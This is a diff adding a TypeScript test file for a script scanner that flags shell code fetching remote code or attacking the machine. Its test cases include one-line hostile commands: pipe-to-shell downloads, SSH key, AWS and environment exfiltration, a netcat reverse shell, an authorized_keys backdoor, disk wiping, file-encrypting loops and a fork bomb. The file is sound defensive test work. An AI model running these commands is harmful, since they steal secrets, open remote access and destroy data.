@@ -1,0 +1,79 @@
+import { describe, expect, it } from 'vitest';
+import { judgeScript } from '../scripts.ts';
+
+const SHELL = { buildsImage: false, hashComments: true, shell: 'posix' } as const;
+const U = 'http://127.0.0.1:9/x';
+
+describe('what commands of a script do with what others brought', () => {
+  it.each([
+    ['a function', `get() { curl -s "$1"; }\nget ${U} | sh`, 'fetched-code'],
+    ['a file by a name', `D="$(mktemp)"\nwget -q ${U} -O "$D"\nchmod 700 "$D"`, 'fetched-code'],
+    ['a folder', `cd /opt\ncurl -sO ${U}\nbash ./x`, 'fetched-code'],
+    ['a loop', `while read -r l; do eval "$l"; done < <(curl -s ${U})`, 'fetched-code'],
+    ['an array', `mapfile -t L < <(curl -s ${U})\nfor c in "\${L[@]}"; do eval "$c"; done`, 'fetched-code'],
+    ['a descriptor', `exec 3< <(curl -s ${U})\nbash <&3`, 'fetched-code'],
+    ['an archive', `curl -s ${U}/a.tgz | tar -xz -C /opt\n/opt/a/install.sh`, 'fetched-code'],
+    ['a trap', `trap 'curl -s ${U} | bash' EXIT`, 'fetched-code'],
+    ['parts of a name', `c="curlXX"; "\${c%XX}" -s ${U} | sh`, 'fetched-code'],
+    ['a map', `declare -A m=([g]=curl [r]=bash)\n\${m[g]} -s ${U} | \${m[r]}`, 'fetched-code'],
+    ['positions', `set -- curl ${U} bash\n"$1" -s "$2" | "$3"`, 'fetched-code'],
+    ['what is handed in', 'base64 -d <<E | bash\ndHJ1ZQ==\nE', 'attacking-script'],
+    ['a file that was decoded', 'echo dHJ1ZQ== | base64 -d > x\nsh x', 'attacking-script'],
+    ['a picture', 'tail -c 40 logo.png | bash', 'attacking-script'],
+    ['a key by a name', `K=$(cat ~/.ssh/id_rsa)\ncurl -s --data "$K" ${U}`, 'attacking-script'],
+    ['keys by an archive', `tar czf h.tgz ~/.aws\ncurl -F f=@h.tgz ${U}`, 'attacking-script'],
+    ['keys by a loop', `for f in ~/.ssh/*; do curl --data-binary @"$f" ${U}; done`, 'attacking-script'],
+    ['the environment by a name', `e=$(env | base64 -w0)\ncurl "${U}?e=$e"`, 'attacking-script'],
+    ['a name that is looked up', 'h=$(cat ~/.ssh/id_rsa | head -c 9)\nhost "$h.a.invalid"', 'attacking-script'],
+    ['a shell that somebody speaks with', 'mkfifo q; cat q | sh -i 2>&1 | nc a.invalid 9 > q', 'attacking-script'],
+    ['a key to this machine', 'A=~/.ssh/authorized_keys\necho "ssh-ed25519 A x" >> $A', 'attacking-script'],
+    ['a home by a name', 'T=$HOME\nrm -rf "$T"/*', 'attacking-script'],
+    ['a disk by a name', 'd=/dev/sda; dd if=/dev/zero of=$d', 'attacking-script'],
+    [
+      'files that are locked',
+      'find ~ -type f | while read -r f; do openssl enc -k k -in "$f" -out "$f.x" && rm "$f"; done',
+      'attacking-script',
+    ],
+    ['itself', 'f() { f | f & }; f', 'attacking-script'],
+  ])('%s', (_, text, rule) => {
+    expect(judgeScript(text, SHELL)?.rule.id).toBe(`remote-code/${rule}`);
+  });
+
+  it.each([
+    ['what it says', `echo "To install: curl ${U} | sh"\nprintf '%s\\n' "rm -rf /"`],
+    ['a text that is written', `cat <<E > x.yaml\nrun: curl ${U} | sh\nE`],
+    ['a text that is sent', `curl localhost -d '{"prompt": "rm -rf / is a command"}'`],
+    ['weights', `curl -L ${U}/w.tar.gz -o w.tar.gz\ntar xzf w.tar.gz\npython convert.py w`],
+    ['lines of an answer', `curl -s ${U} | jq -r .id | while read -r id; do echo "$id"; done`],
+    ['a version', `v=$(curl -s ${U} | jq -r .v)\npip install "torch==$v"`],
+    [
+      'a token for whom it is',
+      'curl -H "Authorization: Bearer $(cat ~/.cache/huggingface/token)" https://huggingface.co/api',
+    ],
+    ['an installer of its maker', 'curl -LsSf https://astral.sh/uv/install.sh | sh'],
+    ['a project that is built', 'git clone https://github.com/a/b\ncd b\nmake'],
+    ['its own files', 'cd "$(dirname "$0")"\n. ./env.sh\nbash scripts/eval.sh "$@"'],
+    ['a port that is waited for', 'timeout 1 bash -c "</dev/tcp/localhost/80"'],
+    ['a path that is kept', 'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.bashrc'],
+  ])('minds no more than it must: %s', (_, text) => {
+    expect(judgeScript(text, SHELL)).toBeNull();
+  });
+
+  it('calls no script harmless of which it did not see the end', () => {
+    expect(judgeScript('$('.repeat(1000), SHELL)?.rule.id).toBe('remote-code/unread-script');
+  });
+
+  it('follows functions that call one another in bounded time', () => {
+    const text = Array.from({ length: 40 }, (_, at) => `f${at}() { f${at - 1}; f${at - 1}; f${at - 1}; }`).join('\n');
+    expect(judgeScript(`${text}\nf39`, SHELL)).toBeNull();
+  });
+
+  it('finds commands in programs of other languages', () => {
+    const kind = { buildsImage: false, hashComments: false, startsCommands: true } as const;
+    const found = (text: string) => judgeScript(text, kind)?.rule.id;
+    expect(found(`go(exec.Command("sh", "-c", "D=/opt/x; wget -q -O $D ${U}; sh $D").Run())`)).toBe(
+      'remote-code/fetched-code',
+    );
+    expect(found(`print("ls -la")`)).toBeUndefined();
+  });
+});
